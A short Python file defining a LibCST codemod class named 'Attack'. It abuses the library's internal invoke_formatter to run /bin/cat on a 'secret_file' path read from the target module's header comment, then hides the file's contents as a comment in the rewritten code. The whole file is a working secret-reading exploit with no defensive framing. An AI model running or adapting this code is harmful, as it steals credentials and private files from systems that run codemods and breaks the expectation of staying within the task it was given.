"""Have LibCST run a program as its formatter, and take what it prints for code."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand, diff_code


def read(path):
    invoke_formatter = diff_code.__globals__["invoke_formatter"]
    return invoke_formatter(["/bin/cat", path], "").strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a formatter."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
